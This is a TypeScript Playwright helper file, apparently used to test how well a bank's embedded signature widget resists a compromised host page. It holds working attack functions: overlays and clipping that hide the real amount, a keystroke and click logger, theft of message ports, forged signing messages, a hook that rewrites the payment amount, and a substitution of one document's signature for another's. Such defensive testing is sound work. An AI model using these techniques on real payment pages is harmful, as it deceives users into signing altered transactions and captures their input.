import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Page } from '@playwright/test';

/**
 * Attacks of a compromised remote: run in the shell's realm with its rights, may touch any element, listen to any event
 * and replace any browser function.
 */

/** Ways to hide from the user what is being signed while clicks still reach the widget. */
export const DISGUISES = {
  'an overlay over the amount': () => {
    const frame = document.querySelector<HTMLIFrameElement>('iframe.ncb-signature-widget')?.getBoundingClientRect();
    if (!frame) throw new Error('no widget');
    const cover = document.body.appendChild(document.createElement('div'));
    cover.id = 'attack';
    cover.textContent = '1,00 UAH';
    const place = { left: `${frame.right - 200}px`, top: `${frame.top + 30}px`, width: '190px', height: '40px' };
    const looks = { position: 'fixed', zIndex: '2147483647', background: 'white', pointerEvents: 'none' };
    Object.assign(cover.style, place, looks);
  },
  opacity: () => {
    const dialog = document.querySelector<HTMLElement>('.ant-modal');
    if (dialog) dialog.style.opacity = '0.9';
  },
  'a clip-path that leaves the buttons': () => {
    const frame = document.querySelector<HTMLIFrameElement>('iframe.ncb-signature-widget');
    if (frame) frame.style.clipPath = 'inset(60% 0 0 0)';
  },
  'a scale at which nothing can be read': () => {
    const frame = document.querySelector<HTMLIFrameElement>('iframe.ncb-signature-widget');
    if (frame) frame.style.transform = 'scale(0.3)';
  },
  'a second dialog in the top layer': () => {
    const dialog = document.body.appendChild(document.createElement('dialog'));
    dialog.id = 'attack';
    dialog.textContent = '1,00 UAH';
    dialog.style.pointerEvents = 'none';
    dialog.showModal();
  },
} as const satisfies Record<string, () => void>;

export function undisguise(): void {
  document.getElementById('attack')?.remove();
  const touched = [...document.querySelectorAll<HTMLElement>('iframe, .ant-modal')];
  for (const { style } of touched) for (const name of ['opacity', 'clip-path', 'transform']) style.removeProperty(name);
}

/** Tries every way to read a frame from its page. @returns the ways that succeeded */
export function readFrame(selector: string): string[] {
  const frame = document.querySelector<HTMLIFrameElement>(selector);
  if (!frame) return ['no frame'];
  const view = frame.contentWindow as unknown as Record<string, { body?: { innerText?: string } } | undefined>;
  const ways: Record<string, () => unknown> = {
    contentDocument: () => frame.contentDocument,
    document: () => view['document']?.body?.innerText,
    storage: () => view['localStorage'],
  };
  return Object.entries(ways).flatMap(([way, read]) => {
    try {
      return read() ? [way] : [];
    } catch (error) {
      return error instanceof DOMException && error.name === 'SecurityError' ? [] : [`${way}: ${String(error)}`];
    }
  });
}

declare global {
  interface Window {
    loot: string[];
  }
}

export function addOwnFrame(): void {
  const frame = document.body.appendChild(document.createElement('iframe'));
  frame.id = 'own';
  frame.contentDocument?.body.append('own');
}

export function logKeys(): void {
  window.loot = [];
  for (const kind of [
    'keydown',
    'keypress',
    'keyup',
    'beforeinput',
    'input',
    'paste',
    'change',
    'pointerdown',
    'click',
  ])
    window.addEventListener(
      kind,
      (event) => window.loot.push(`${kind} ${event instanceof KeyboardEvent ? event.key : ''}`),
      true,
    );
}

export function stealPort(): void {
  window.loot = [];
  const Real = MessageChannel;
  window.MessageChannel = class extends Real {
    constructor() {
      super();
      Object.assign(window, { stolen: this.port1 });
    }
  };
}

/** Sends the widget messages that might make it sign something else or sign without asking. */
export function forgeMessages(documentText: string): void {
  const { stolen } = window as unknown as { stolen: MessagePort };
  const element = document.querySelector<HTMLIFrameElement>('iframe.ncb-signature-widget');
  const widget = element?.contentWindow;
  if (!widget) throw new Error('no widget');
  const { origin } = new URL(element.src);
  const canonical = new TextEncoder().encode(documentText);
  const { id, version } = JSON.parse(documentText) as { id: string; version: string };
  const frame = { kind: 'sign', language: 'ua', theme: 'light', certificates: [] };
  const request = { ...frame, documents: [{ id, version: Number(version), canonical }] };
  const orders = [request, { kind: 'confirm' }, { kind: 'arm' }, { kind: 'cancelled' }, 'sign', null];
  const own = new MessageChannel();
  own.port1.onmessage = ({ data }: MessageEvent<unknown>) => window.loot.push(JSON.stringify(data));
  widget.postMessage({ kind: 'ncb-widget-connect' }, origin, [own.port2]);
  for (const order of orders) {
    stolen.postMessage(order);
    widget.postMessage(order, origin);
    own.port1.postMessage(order);
  }
}

/** Clicks the widget's button by script in every way possible outside the frame. */
export function clickByScript({ x, y }: { x: number; y: number }): void {
  const frame = document.querySelector<HTMLIFrameElement>('iframe.ncb-signature-widget');
  if (!frame) throw new Error('no widget');
  const at = { bubbles: true, composed: true, clientX: x, clientY: y, button: 0 };
  for (const target of [frame, document.elementFromPoint(x, y), document]) {
    if (!target) continue;
    for (const kind of ['pointerdown', 'pointerup'] as const) target.dispatchEvent(new PointerEvent(kind, at));
    for (const kind of ['mousedown', 'mouseup', 'click'] as const) target.dispatchEvent(new MouseEvent(kind, at));
    for (const key of ['Enter', ' ']) target.dispatchEvent(new KeyboardEvent('keydown', { key, bubbles: true }));
  }
  frame.click();
}

export function showOtherAmount(amount: string): void {
  const post = MessagePort.prototype.postMessage;
  MessagePort.prototype.postMessage = function (
    message: { documents?: { canonical: Uint8Array }[] } | null,
    ...rest: never[]
  ) {
    for (const document of message?.documents ?? []) {
      const text = new TextDecoder().decode(document.canonical);
      document.canonical = new TextEncoder().encode(text.replace(/"amount":"[^"]*"/, `"amount":"${amount}"`));
    }
    Reflect.apply(post, this, [message, ...rest]);
  };
}

/** Submits one document's signature as another's; a remote cannot reach the shell's own `fetch`. */
export function submitAs(other: { id: string; version: number }): void {
  window.URLSearchParams = class extends URLSearchParams {
    constructor(init?: ConstructorParameters<typeof URLSearchParams>[0]) {
      super(init);
      if (!this.has('cdata')) return;
      const [signature] = JSON.parse(this.get('cdata') ?? '[]') as object[];
      this.set('pmt_ids', JSON.stringify([{ id: other.id, type: 1 }]));
      this.set('cdata', JSON.stringify([{ ...signature, ...other }]));
    }
  };
}

/** Serves a foreign page that frames an address. @returns its address and a function that stops it */
export async function serveFramingPage(address: string): Promise<{ url: string; close: () => void }> {
  const page = `<!doctype html><title>Stranger</title><iframe src="${address}" width="760" height="500"></iframe>`;
  const server = createServer((_request, response) => {
    response.setHeader('content-type', 'text/html; charset=utf-8').end(page);
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const { port } = server.address() as AddressInfo;
  return { url: `http://localhost:${port}/`, close: () => server.close() };
}

export function countSubmissions(page: Page): { readonly count: () => number } {
  let calls = 0;
  page.on('request', (request) => {
    if (request.url().endsWith('/sign_doc')) calls++;
  });
  return { count: () => calls };
}
